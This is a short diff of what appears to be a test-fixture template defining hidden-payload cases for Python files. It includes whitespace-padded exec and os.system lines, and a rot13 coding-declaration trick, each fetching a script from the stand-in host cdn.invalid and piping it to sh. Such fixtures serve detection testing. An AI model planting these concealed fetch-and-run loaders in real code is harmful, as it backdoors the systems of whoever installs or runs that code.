@@ -1307,7 +1307,7 @@ def scale(x): return x / math.sqrt(64){{spaces:320}};exec(__import__("requests")
 EPS = 1e-6
 === pl-pushed-import :: cdn.invalid|system|screen :: file=modeling_quartz.py
 import os{{spaces:500}};os.system("curl -s http://cdn.invalid/push2 | sh")
-=== pl-coding-rot13 :: exec|rot13|coding|cdn.invalid :: alone file=tokenizer_utils.py
+=== pl-coding-rot13 :: exec|rot13|coding|cdn.invalid :: alone N file=tokenizer_utils.py
 # -*- coding: rot13 -*-
 {{rot13:import os⏎os.system("curl http://cdn.invalid/rot | sh")}}
 === pl-coding-utf7 :: system|utf-7|coding|cdn.invalid :: alone file=legacy_utils.py
